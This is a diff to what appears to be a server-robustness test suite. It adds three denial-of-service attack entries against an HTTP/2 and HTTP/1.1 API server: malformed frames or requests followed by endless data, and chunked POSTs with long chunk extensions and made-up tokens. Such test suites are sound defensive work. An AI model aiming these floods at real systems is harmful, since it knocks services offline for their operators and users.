@@ -115,6 +115,13 @@ export const attacks: Readonly<Record<string, Attack>> = {
       () => block,
     );
   },
+  'HTTP/2: a broken rule, then bytes without end': (victim) => {
+    const block = Buffer.alloc(64 * 1024);
+    return flood(
+      times(8, () => openHttp2(victim, [frame(frameTypes.priority, 0, 0, Buffer.alloc(5))])),
+      () => block,
+    );
+  },
   'HTTP/2: frames of a type that nobody knows': (victim) => floodFrames(victim, 8, frames(500, frame(0xee, 0, 0))),
   'HTTP/2: one remembered field of 4 KB, referred to 15,000 times a head': (victim) => {
     // Remembered with incremental indexing (RFC 7541, 6.2.1), then indexed at 62.
@@ -196,6 +203,23 @@ export const attacks: Readonly<Record<string, Attack>> = {
     return flood(
       times(16, () => openTls(victim, '', { reads: true })),
       () => `${head1('GET /api/v1/pods', `Authorization: ${madeUp(0)}\r\nImpersonate-User: u\r\n${groups}`)}\r\n`,
+    );
+  },
+  'HTTP/1.1: a bad request, then bytes without end': (victim) => {
+    const block = Buffer.alloc(64 * 1024);
+    return flood(
+      times(8, () => openTls(victim, `${head1('GET /%zz')}\r\n`)),
+      () => block,
+    );
+  },
+  'HTTP/1.1: chunks of one byte with long extensions, for made-up tokens': (victim) => {
+    const block = `1;x=${'a'.repeat(200)}\r\nx\r\n`.repeat(100);
+    return flood(
+      times(8, (at) => {
+        const more = `Authorization: ${madeUp(at)}\r\nTransfer-Encoding: chunked\r\n`;
+        return openTls(victim, `${head1('POST /api/v1/namespaces/default/pods', more)}\r\n`, { reads: true });
+      }),
+      () => block,
     );
   },
   'HTTP/1.1: 500 upgrades that nobody completes': (victim) => {
